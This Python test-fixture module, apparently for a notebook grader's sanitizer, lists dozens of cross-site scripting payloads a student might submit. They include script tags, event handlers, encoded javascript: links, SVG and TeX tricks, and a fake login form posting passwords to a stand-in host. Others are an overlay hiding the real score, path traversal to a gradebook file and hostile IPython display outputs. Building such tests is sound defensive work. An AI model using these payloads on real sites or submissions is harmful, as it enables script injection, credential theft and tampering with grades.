# ruff: noqa: E501  (a trick is one line)
"""What students write: what would act in a reader's browser, each way that Markdown, HTML and TeX offer; and prose."""

# Name of the trick: the text of a cell. @@ becomes code that tells the visitor that it ran.
TRICKS = {
    "script": "<script>@@</script>",
    "script-split": "<scr<script>ipt>@@</scr</script>ipt>",
    "script-block": "text\n\n<script>\n\n@@\n\n</script>\n\ntext",
    "closers": "</div></article></main></pre></code></textarea></style></title><script>@@</script>",
    "comment": "<!-- --><script>@@</script><!-- ><img src=x onerror=@@> -->",
    "declaration": "<!DOCTYPE x [<!ENTITY y '<script>@@</script>'>]>&y;<![CDATA[<script>@@</script>]]><?php @@ ?>",
    "handler": '<img src=x onerror="@@"> <body onload="@@"> <details open ontoggle="@@">',
    "handler-slash": "<svg/onload=@@><img/src=x/onerror=@@>",
    "svg": '<svg><script>@@</script><animate onbegin="@@" attributeName=x dur=1s></svg>',
    "svg-use": '<svg><a xlink:href="javascript:@@"><text y=20>click</text></a><use href="data:image/svg+xml,x#y"/></svg>',
    "frames": "<iframe src=\"javascript:@@\" srcdoc='<script>parent.@@</script>'></iframe><embed src=//a.invalid><object data=x>",
    "cover": '<div style="position:fixed;inset:0;background:white;z-index:9999">You have 18 points.</div>',
    "style": "<style>body { display: none } @import url(https://a.invalid/x.css);</style><link rel=stylesheet href=//a.invalid>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://a.invalid/"><base href="https://a.invalid/">',
    "form": '<form action="https://a.invalid/"><input name=password autofocus onfocus="@@"><button>Log in</button></form>',
    "picture": "![pixel](https://a.invalid/pixel.png) ![pixel][p]\n\n[p]: https://a.invalid/p.png",
    "picture-title": "![a](https://a.invalid/x.png 'x\" onerror=\"@@')",
    "picture-alt": '![x" onerror="@@" y="](x.png)',
    "picture-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)",
    "attachment-missing": "![x](attachment:nothing.png) ![y](attachment:../../../gradebook.db)",
    "link": "[click](javascript:@@) [click](JaVaScRiPt:@@) [click]( javascript:@@ )",
    "link-angle": "[click](<javascript:@@>) <javascript:@@> <JAVASCRIPT:@@>",
    "link-entity": "[click](&#106;avascript:@@) [click](&#x6A;avascript&colon;@@) [click](java&Tab;script&#58;@@)",
    "link-escape": r"[click](\javascript:@@) [click](java\script:@@) [click](javascript\:@@)",
    "link-percent": "[click](%6aavascript:@@) [click](javascript%3a@@)",
    "link-white": "[click](\x01javascript:@@) [click](java\u200bscript:@@) [click](\n javascript:@@)",
    "link-data": "[click](data:text/html,<script>@@</script>) [click](data:text/html;base64,PHNjcmlwdD4=)",
    "link-other": "[click](vbscript:@@) [click](file:///etc/passwd) [click](blob:x) [click](//a.invalid) [click](?path=/tmp)",
    "link-formgrader": "[click](http://localhost:8888/formgrader/?path=submitted) [click](https://a.invalid/formgrader/)",
    "link-files": "[click](/files/javascript:@@) [click](files/javascript:@@)",
    "link-nested": "[a [b](https://b.invalid)](javascript:@@) [![x](attachment:y.png)](javascript:@@) [[click]](javascript:@@)",
    "link-title": '[click](https://a.invalid "x" onclick="@@") [click](https://b.invalid \'"><img src=x onerror=@@>\')',
    "reference": "[click][1] [1] [click][]\n\n[1]: javascript:@@\n[click]: <java\nscript:@@>\n  [x]:\n  javascript:@@",
    "reference-quote": "> [click]\n>\n> [click]: javascript:@@\n\n- [item]\n\n  [item]: javascript:@@",
    "footnote": "text[^1]\n\n[^1]: <script>@@</script> [x](javascript:@@)\n\n*[HTML]: <b onmouseover=@@>",
    "address": 'https://a.invalid/"onmouseover="@@ http://a.invalid/\'><script>@@</script>',
    "fence": '```"><script>@@</script>\nx\n```\n\n~~~ x" onmouseover="@@\nx\n~~~\n\n```{=html}\n<script>@@</script>\n```',
    "fence-open": "```\n</code></pre><script>@@</script>",
    "mermaid": '```mermaid\ngraph TD; a["<img src=x onerror=@@>"]; click a href "javascript:@@"\n```',
    "table": "|a|<script>@@</script>|\n|:-:|--|\n|<img src=x onerror=@@>|[c](javascript:@@)|",
    "list": "- [ ] <script>@@</script>\n- [x] [c](javascript:@@)\n\nTerm\n: <script>@@</script>",
    "heading": '# <script>@@</script>\n\n## x" onmouseover="@@\n\n[c](javascript:@@)\n===',
    "heading-name": "# 05-1\n\n## 05-6\n\n### 05-6-comment\n\n05-4\n---\n\n> # 05-2\n\n###### MathJax",
    "entities": "&lt;script&gt;@@&lt;/script&gt; &#60;img src=x onerror=@@&#62; &amp;lt;script&amp;gt;",
    "math": r"$</p><script>@@</script>$ $$<img src=x onerror=@@>$$ \begin{align}<svg onload=@@>\end{align}",
    "tex-href": r"$\href{javascript:@@}{x} \url{javascript:@@}$ $$\let\a\href \a{javascript:@@}{y}$$",
    "tex-require": r"$\require{html}\class{btn}{x}\cssId{05-6}{y}\style{position:fixed;inset:0}{z}$",
    "tex-box": r"$\bbox[position:fixed;inset:0;background:red]{x} \data{onclick=@@}{x} \mmlToken{mi}[href='javascript:@@']{x}$",
    "tex-unicode": r"$\unicode{x3C}\unicode[x' onerror='@@]{x3E} \includegraphics{https://a.invalid/x.png}$",
    "tex-cover": r"$\smash{\raise 40em \rule{90em}{90em}} \Rule{90em}{90em}{0em}$ $$\begin{array}{c}a\\[-40em]b\end{array}$$",
    "terminal": "\x1b]8;;javascript:@@\x07click\x1b]8;;\x07 \u202e)x(tpircs \x00<script>@@</script>",
}
# Code whose outputs would act, and an answer whose error would.
CODE = {
    "displays": """
from IPython.display import HTML, SVG, Javascript, Markdown, display
text = "<img src=x onerror=hit('display')><script>hit('display')</script>"
picture = "<svg xmlns='http://www.w3.org/2000/svg' onload='hit(5)'></svg>"
display(HTML(text), SVG(picture), Javascript("hit('javascript')"), Markdown(text))
for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/vnd.mermaid",
             "application/vnd.jupyter.widget-view+json", "image/png", "image/jpeg", "image/gif", "application/pdf"):
    display({kind: text, "text/plain": text}, raw=True, metadata={kind: {"width": "1 onerror=hit('width')", "isolated": True}})
HTML(text)  # the last expression""",
    "magic": "%%html\n<script>hit('magic')</script>",
    "prints": """
import sys
print("\\x1b[31m<script>hit('print')</script>\\x1b[0m</pre><img src=x onerror=hit('print')>", file=sys.stderr)
print("</pre></div><script>hit('print')</script>")""",
    "raises": """
raise type("<img src=x onerror=hit('name')>", (Exception,), {})("</pre><script>hit('error')</script>")""",
}
ANSWER = """def variance_slope(widths, samples):
    raise ValueError("</pre><script>hit('answer')</script> [x](javascript:hit('answer'))")"""

HONEST = """The kernel moves by $O(1/\\sqrt n)$ if $n > d$ and $\\beta^2<1$, so **nearly nothing** happens *here*:

$$\\sup_{t<T}\\|\\Theta(t) - \\Theta(0)\\| \\to 0,\\qquad \\begin{aligned} a &< b \\\\[4pt] c &= d_1[0](x) \\end{aligned}$$

1. a < b and b > a, `if a < b: List[int]`
2. see [the paper](https://arxiv.org/abs/1806.07572 "Jacot et al.") or https://example.org/x?y=1&z=2.

| width | slope |
|:-----:|------:|
| 64 | -1.01 |

```python
# a comment
for i in range(n):
    if x[i](t) < y and z > 1: print("<ok>")
```

> Größe, naïve, 日本語, Ελληνικά, 🎉

Done
---
- [x] ~~wrong~~ right"""
PICTURE = """
import matplotlib.pyplot as plt
plt.figure(figsize=(2, 1))
plt.plot([0, 1], [1, 0])
plt.show()
print("3 < 4 & 5 > 4")"""
